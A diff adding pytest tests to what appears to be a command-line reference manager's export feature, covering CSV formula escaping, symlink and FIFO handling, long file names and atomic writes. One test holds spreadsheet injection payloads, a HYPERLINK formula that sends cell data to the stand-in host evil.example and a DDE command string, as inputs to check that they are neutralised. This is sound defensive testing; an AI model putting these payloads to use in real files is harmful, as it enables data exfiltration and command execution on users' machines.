@@ -33,12 +33,9 @@ def test_authors_whose_last_word_has_no_letters_export_everywhere(tmp_path: Path
     for paper_id in ("1", "2", "3"):
         run("note", paper_id, "--set", "a note")
     out = tmp_path / "out"
-    code, text, err = run("export", "--format", fmt, "-o", str(out))
+    code, _text, err = run("export", "--format", fmt, "-o", str(out))
     assert code == 0, err
-    if out.is_dir():
-        written = " ".join(p.name for p in out.iterdir())
-    else:
-        written = out.read_text(encoding="utf-8")
+    written = " ".join(p.name for p in out.iterdir()) if out.is_dir() else out.read_text(encoding="utf-8")
     if fmt in ("bibtex", "csl", "notes"):
         for key in ("anna2022dotted", "berg2022dagger", "anon2022only"):
             assert key in written
@@ -100,3 +97,97 @@ def test_a_read_only_library_shows_changes_still_in_its_wal(
     assert code == 0, err
     assert out == "only in the WAL\n"
     assert db.read_bytes() == before
+
+
+def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    import csv
+
+    dump = tmp_path / "dump.txt"
+    dump.write_text(entry('=HYPERLINK("http://evil.example/?"&A1,"x")', "@Anna Berg, -Carl Doe"), encoding="utf-8")
+    assert run("import", str(dump))[0] == 0
+    run("tag", "1", "+=cmd|' /C calc'!A0")
+    run("note", "1", "--set", "+1 and\tmore")
+    code, out, _ = run("export", "--format", "csv")
+    assert code == 0
+    (row,) = list(csv.DictReader(io.StringIO(out)))
+    for name, value in row.items():
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
+    assert row["title"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    assert row["authors"] == "'@Anna Berg; -Carl Doe"
+    assert row["score"] == "" and row["id"] == "1"
+
+
+def _one_annotated_paper(tmp_path: Path, title: str = "Symlink Target Paper") -> None:
+    dump = tmp_path / "dump.txt"
+    dump.write_text(entry(title, "Anna Berg"), encoding="utf-8")
+    assert run("import", str(dump))[0] == 0
+    assert run("note", "1", "--set", "my note")[0] == 0
+
+
+def test_the_notes_export_never_writes_through_a_symlink(tmp_path: Path) -> None:
+    _one_annotated_paper(tmp_path)
+    secret = tmp_path / "bashrc"
+    secret.write_text("precious\n")
+    vault = tmp_path / "vault"
+    vault.mkdir()
+    (vault / "berg2022symlink.md").symlink_to(secret)
+    code, _, err = run("export", "--format", "notes", "-o", str(vault))
+    assert code == 0
+    assert "skipped berg2022symlink.md: is a symbolic link" in err
+    assert secret.read_text() == "precious\n" and (vault / "berg2022symlink.md").is_symlink()
+
+
+def test_a_fifo_in_the_notes_folder_is_skipped_not_waited_on(tmp_path: Path) -> None:
+    import os
+
+    _one_annotated_paper(tmp_path)
+    vault = tmp_path / "vault"
+    vault.mkdir()
+    os.mkfifo(vault / "berg2022symlink.md")
+    code, _, err = run("export", "--format", "notes", "-o", str(vault))
+    assert code == 0 and "skipped berg2022symlink.md: not a regular file" in err
+
+
+def test_a_306_character_title_word_gives_a_short_file_name(tmp_path: Path) -> None:
+    _one_annotated_paper(tmp_path, title="Pneumono" + "x" * 298 + " Studies")
+    vault = tmp_path / "vault"
+    assert run("export", "--format", "notes", "-o", str(vault))[0] == 0
+    (name,) = [p.name for p in vault.iterdir()]
+    assert len(name.encode()) <= 64 and name.startswith("berg2022pneumono")
+
+
+def test_a_failed_export_leaves_the_old_file_whole_and_no_temp_file(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import store.library
+
+    _one_annotated_paper(tmp_path)
+    target = tmp_path / "refs.bib"
+    target.write_text("the old export\n")
+    target.chmod(0o640)
+    real_export = store.library.Library.export
+
+    def dies_midway(self: object, fmt: str, ids: object) -> object:
+        yield from real_export(self, fmt, ids)  # type: ignore[arg-type]
+        raise OSError(28, "No space left on device")
+
+    with monkeypatch.context() as patch:
+        patch.setattr(store.library.Library, "export", dies_midway)
+        code, _, err = run("export", "--format", "bibtex", "-o", str(target))
+    assert code == 1 and "refs.bib: cannot write: No space left on device" in err
+    assert target.read_text() == "the old export\n"
+    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".refs")] == []
+    assert run("export", "--format", "bibtex", "-o", str(target))[0] == 0
+    assert target.read_text().startswith("@article{berg2022symlink,")
+    assert target.stat().st_mode & 0o777 == 0o640  # the file keeps the permissions it had
+
+
+def test_an_export_to_a_symlink_the_user_made_updates_its_target(tmp_path: Path) -> None:
+    _one_annotated_paper(tmp_path)
+    real = tmp_path / "dotfiles" / "refs.bib"
+    real.parent.mkdir()
+    real.write_text("old\n")
+    link = tmp_path / "refs.bib"
+    link.symlink_to(real)
+    assert run("export", "--format", "bibtex", "-o", str(link))[0] == 0
+    assert link.is_symlink() and real.read_text().startswith("@article{")
